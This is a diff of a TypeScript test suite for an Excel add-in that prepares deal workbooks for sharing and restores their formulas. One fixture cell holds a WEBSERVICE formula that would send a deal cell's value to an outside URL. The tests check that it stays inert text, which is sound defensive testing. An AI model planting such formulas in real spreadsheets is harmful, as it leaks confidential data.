@@ -56,9 +56,11 @@ describe("shareApply: Prepare for sharing, Restore, Repair through the fake work
     const originals = book.sheets.get(ORIGINALS_SHEET)!;
     assert.strictEqual(originals.visibility, "Hidden");
     assert.deepStrictEqual(originals.rows[0], ["Sheet", "Cell", "Formula"]);
-    assert.deepStrictEqual(originals.rows[1], ["Deal (shared)", "F2", `'${FEE}`]);
-    assert.ok(originals.rows.some((r) => r[1] === "I2" && r[2] === ""));
-    assert.ok(originals.rows.some((r) => r[1] === "L1" && r[2] === ""));
+    // Recorded as text (the quote prefix is an attribute: values and formulas give the text alone, office-js issue 6687).
+    assert.deepStrictEqual(["A2", "B2", "C2"].map((a) => book.cell(ORIGINALS_SHEET, a)), ["Deal (shared)", "F2", FEE].map((text) => ({ formula: text, value: text, isFormula: false, quotePrefix: true, numberFormat: "General" })));
+    // A cell that was empty is recorded with an empty formula cell.
+    assert.ok(originals.rows.some((r) => r[1] === "I2" && (r[2] ?? "") === ""));
+    assert.ok(originals.rows.some((r) => r[1] === "L1" && (r[2] ?? "") === ""));
     const holidays = book.sheets.get(HOLIDAYS_SHEET)!;
     assert.deepStrictEqual(holidays.rows[0]!.slice(0, 2), ["Exchange closed (weekdays)", "Reason"]);
     assert.ok(holidays.rows.length > 1000);
@@ -99,7 +101,7 @@ describe("shareApply: Prepare for sharing, Restore, Repair through the fake work
     deal.name = "+Deal";
     book.sheets.set("+Deal", deal);
     await prepareForSharing(book.run, { sheets: ["+Deal"] });
-    assert.strictEqual(book.sheets.get(ORIGINALS_SHEET)!.rows[1]![0], "'+Deal (shared)");
+    assert.deepStrictEqual(book.cell(ORIGINALS_SHEET, "A2"), { formula: "+Deal (shared)", value: "+Deal (shared)", isFormula: false, quotePrefix: true, numberFormat: "General" });
     const result = await restoreFormulas(book.run);
     assert.match(result.message, /Restored 8 cells on 1 sheet/);
     assert.strictEqual(book.sheets.get("+Deal (shared)")!.rows[1]![5], FEE);
@@ -293,3 +295,204 @@ describe("shareApply: Prepare for sharing, Restore, Repair through the fake work
     assert.ok(/Terms/.test(result.details.join("\n")), result.details.join("\n"));
   });
 });
+
+/** Writes cells through the API, as the import and the analyst do: "'..." is text (Excel's quote prefix). */
+async function enter(book: FakeWorkbook, sheet: string, address: string, contents: unknown[][]): Promise<void> {
+  await book.run(async (context) => {
+    context.workbook.worksheets.getItem(sheet).getRange(address).values = contents;
+    await context.sync();
+  });
+}
+
+/** The deal sheet with a Notes column the import wrote as text, and a CEO formula kept by its value whose value is text. */
+async function notesBook(): Promise<FakeWorkbook> {
+  const book = dealBook();
+  await enter(book, "Deal", "K1:K3", [["Notes"], ['\'=WEBSERVICE("http://x/?q="&Deal!C2)'], ["'=CEO.FEE(1)"]]);
+  const deal = book.sheets.get("Deal")!;
+  // No native formula (a name for the schedule): the copy keeps what the cell shows, the text "06560".
+  deal.rows[2]![7] = '=TEXT(CEO.FEE(C3,,Tiers),"00000")';
+  deal.values![2]![7] = "06560";
+  return book;
+}
+
+describe("shareApply: text stays text, in the copy, on the originals sheet and back", () => {
+  it("Prepare leaves a Notes cell holding =WEBSERVICE(...) or =CEO.FEE(1) as text, and keeps a text value as text", async () => {
+    const book = await notesBook();
+    const result = await prepareForSharing(book.run, { now: new Date("2026-01-05T12:00:00Z") });
+    assert.ok(result.ok, result.message);
+    assert.match(result.message, /5 CEO formulas now native, 1 kept as values/);
+    for (const [address, text] of [["K2", '=WEBSERVICE("http://x/?q="&Deal!C2)'], ["K3", "=CEO.FEE(1)"], ["H3", "06560"]] as const) {
+      const cell = book.cell("Deal (shared)", address);
+      assert.deepStrictEqual([cell.isFormula, cell.formula, cell.value], [false, text, text], address);
+    }
+    assert.ok(!book.sheets.get(ORIGINALS_SHEET)!.rows.some((r) => r?.[1] === "K2" || r?.[1] === "K3"), "text cells are not recorded: nothing was changed there");
+    // Restore gives back the formula, the text cells untouched.
+    assert.match((await restoreFormulas(book.run)).message, /Restored 8 cells on 1 sheet/);
+    assert.deepStrictEqual(["K2", "K3"].map((a) => book.cell("Deal (shared)", a).isFormula), [false, false]);
+    assert.deepStrictEqual(book.cell("Deal (shared)", "H3").formula, '=TEXT(CEO.FEE(C3,,Tiers),"00000")');
+  });
+
+  it("a failure at any request of Restore, after a Prepare that kept text, leaves the workbook as it was", async () => {
+    const setUp = async () => {
+      const book = await notesBook();
+      await prepareForSharing(book.run);
+      book.requests = 0;
+      return book;
+    };
+    const probe = await setUp();
+    await restoreFormulas(probe.run, { chunkBytes: 300 });
+    for (let k = 1; k < probe.requests; k++) {
+      const book = await setUp();
+      const before = book.snapshot();
+      book.failAtRequest = k;
+      await assert.rejects(restoreFormulas(book.run, { chunkBytes: 300 }), /injected failure/);
+      assert.deepStrictEqual(book.snapshot(), before, `failure at request ${k} of ${probe.requests} left a change`);
+    }
+  });
+
+  it("a failure at any request of Restore puts back what the copy held: text that reads like a formula or a number stays text", async () => {
+    // The copy as Prepare leaves it: kept values that are text ("06560", "=CEO.FEE(1)"), a native formula; their originals recorded.
+    const setUp = async () => {
+      const book = new FakeWorkbook();
+      book.addSheet("Deal (shared)");
+      book.addSheet(ORIGINALS_SHEET);
+      await enter(book, "Deal (shared)", "A1:D1", [[5_000_000, "'06560", "'=CEO.FEE(1)", "=A1*0.04"]]);
+      await enter(book, ORIGINALS_SHEET, "A1:C4", [
+        ["Sheet", "Cell", "Formula"],
+        ["'Deal (shared)", "'B1", `'=TEXT(CEO.FEE(A1,,Tiers),"00000")`],
+        ["'Deal (shared)", "'C1", `'=IF(A1>0,"=CEO.FEE(1)",CEO.FEE(A1,,Tiers))`],
+        ["'Deal (shared)", "'D1", "'=CEO.FEE(A1)"],
+      ]);
+      book.requests = 0;
+      return book;
+    };
+    const probe = await setUp();
+    assert.match((await restoreFormulas(probe.run, { chunkBytes: 60 })).message, /Restored 3 cells/);
+    assert.ok(probe.requests >= 4, `${probe.requests} requests`);
+    for (let k = 1; k < probe.requests; k++) {
+      const book = await setUp();
+      const before = book.snapshot();
+      book.failAtRequest = k;
+      await assert.rejects(restoreFormulas(book.run, { chunkBytes: 60 }), /injected failure/);
+      assert.deepStrictEqual(book.snapshot(), before, `failure at request ${k} of ${probe.requests} left a change`);
+    }
+  });
+
+  it("Restore writes a recorded entry that is not a formula (an older or edited record) as the text it is", async () => {
+    const book = dealBook();
+    await prepareForSharing(book.run, { sheets: ["Deal"] });
+    const originals = book.sheets.get(ORIGINALS_SHEET)!;
+    const at = originals.rows.findIndex((r) => r?.[1] === "L1");
+    await enter(book, ORIGINALS_SHEET, `C${at + 1}`, [["'00123"]]);
+    assert.ok((await restoreFormulas(book.run)).ok);
+    const cell = book.cell("Deal (shared)", "L1");
+    assert.deepStrictEqual([cell.isFormula, cell.value], [false, "00123"]);
+  });
+});
+
+describe("shareApply: Prepare and Excel's calculation", () => {
+  let putBack: (() => void) | undefined;
+  afterEach(() => {
+    putBack?.();
+    putBack = undefined;
+  });
+
+  it("refuses a workbook in manual calculation, saying how to switch; nothing changed", async () => {
+    const book = dealBook();
+    book.calculationMode = "Manual";
+    const before = book.snapshot();
+    const result = await prepareForSharing(book.run);
+    assert.strictEqual(result.ok, false);
+    assert.match(result.message, /calculates this workbook manually.*Formulas > Calculation Options > Automatic.*Nothing was changed\./);
+    assert.deepStrictEqual(book.snapshot(), before);
+  });
+
+  it("waits for a calculation to finish (ExcelApi 1.9), then prepares", async () => {
+    const book = dealBook();
+    putBack = book.installOffice({ ExcelApi: "1.9" });
+    book.calculationState = ["Calculating", "Pending", "Calculating", "Done"];
+    const result = await prepareForSharing(book.run, { calculationWait: { looks: 10, delayMs: 1 } });
+    assert.ok(result.ok, result.message);
+    assert.deepStrictEqual(book.calculationState, ["Done"]);
+  });
+
+  it("refuses a workbook that keeps calculating, or has changes pending; nothing changed", async () => {
+    for (const state of ["Calculating", "Pending"]) {
+      const book = dealBook();
+      putBack = book.installOffice({ ExcelApi: "1.9" });
+      book.calculationState = state;
+      const before = book.snapshot();
+      const result = await prepareForSharing(book.run, { calculationWait: { looks: 3, delayMs: 1 } });
+      putBack();
+      assert.strictEqual(result.ok, false);
+      assert.strictEqual(result.message, `Excel is still calculating (${state}): the values Prepare would keep are not final yet. Wait until the status bar no longer shows "Calculating", then prepare again. Nothing was changed.`);
+      assert.deepStrictEqual(book.snapshot(), before);
+    }
+  });
+
+  it("below ExcelApi 1.9 the state is not asked for (the host has no such property)", async () => {
+    const book = dealBook();
+    putBack = book.installOffice({ ExcelApi: "1.8" });
+    book.calculationState = "Calculating"; // unknowable here: an automatic workbook is taken as calculated
+    assert.ok((await prepareForSharing(book.run)).ok);
+  });
+});
+
+describe("shareApply: values Excel takes, formulas Excel refuses", () => {
+  it("a kept #SPILL! is written =NA() (no #SPILL! literal in a formula), the details naming the error", async () => {
+    const book = dealBook();
+    const deal = book.sheets.get("Deal")!;
+    deal.values![2]![7] = "#SPILL!";
+    deal.values![1]![9] = "#CALC!"; // J2 =SUM(F2:F3): a plain formula, untouched
+    const result = await prepareForSharing(book.run);
+    assert.ok(result.ok, result.message);
+    assert.strictEqual(book.cell("Deal (shared)", "H3").formula, "=NA()");
+    assert.ok(result.details.some((d) => /H3: value kept \(CEO.FEE: schedule .*; it showed #SPILL!, written as =NA\(\): Excel takes no #SPILL! typed in a formula\)/.test(d)), result.details.join("\n"));
+    assert.strictEqual(book.cell("Deal (shared)", "J2").formula, "=SUM(F2:F3)");
+  });
+
+  it("a native formula nesting functions over 64 levels keeps the cell's value instead of failing the command", async () => {
+    const book = dealBook();
+    const deal = book.sheets.get("Deal")!;
+    deal.rows[1]![10] = `=${"ABS(".repeat(62)}CEO.FEE(C2)${")".repeat(62)}`;
+    deal.values![1]![10] = 8080;
+    const result = await prepareForSharing(book.run);
+    assert.ok(result.ok, result.message);
+    assert.strictEqual(book.cell("Deal (shared)", "K2").formula, 8080);
+    assert.ok(result.details.some((d) => /K2: value kept \(the native formula nests functions 66 levels deep: Excel takes 64\)/.test(d)), result.details.join("\n"));
+  });
+
+  it("a formula Excel refuses when written (its internal length) is retried cell by cell: that cell keeps its value, the others are native", async () => {
+    const book = dealBook();
+    book.refuses = (formula) => (formula.includes("WORKDAY.INTL") ? "the formula is too long in Excel's internal form" : undefined);
+    const result = await prepareForSharing(book.run, { now: new Date("2026-01-05T12:00:00Z") });
+    assert.ok(result.ok, result.message);
+    assert.match(result.message, /Prepared 1 shared copy: 3 CEO formulas now native, 3 kept as values/);
+    assert.deepStrictEqual(["G2", "G3"].map((a) => book.cell("Deal (shared)", a).formula), [37201, 37202]);
+    assert.match(String(book.cell("Deal (shared)", "F2").formula), /^=IF\(OR\(C2<0,/);
+    assert.ok(result.details.some((d) => /"Deal \(shared\)" G2: value kept \(Excel refused the native formula: .*too long in Excel's internal form\)/.test(d)), result.details.join("\n"));
+    assert.match(String(book.cell("Deal (shared)", "L1").value), /3 CEO formulas replaced by native Excel formulas, 3 by their values/);
+    // Restore knows those cells too.
+    assert.match((await restoreFormulas(book.run)).message, /Restored 8 cells/);
+    assert.strictEqual(book.cell("Deal (shared)", "G2").formula, "=CEO.SETTLE(A2)");
+  });
+
+  it("any other failure, also while refused cells are written again, still fails the command and undoes it", async () => {
+    const setUp = () => {
+      const book = dealBook();
+      book.refuses = (formula) => (formula.includes("WORKDAY.INTL") ? "refused" : undefined);
+      return book;
+    };
+    const probe = setUp();
+    assert.ok((await prepareForSharing(probe.run, { chunkBytes: 2000 })).ok);
+    assert.ok(probe.requests >= 12, `${probe.requests} requests`);
+    for (let k = 1; k <= probe.requests; k++) {
+      const book = setUp();
+      const before = book.snapshot();
+      book.failAtRequest = k;
+      await assert.rejects(prepareForSharing(book.run, { chunkBytes: 2000 }), /injected failure/, `request ${k}`);
+      assert.deepStrictEqual(book.snapshot(), before, `failure at request ${k} of ${probe.requests} left a change`);
+    }
+  });
+});
+
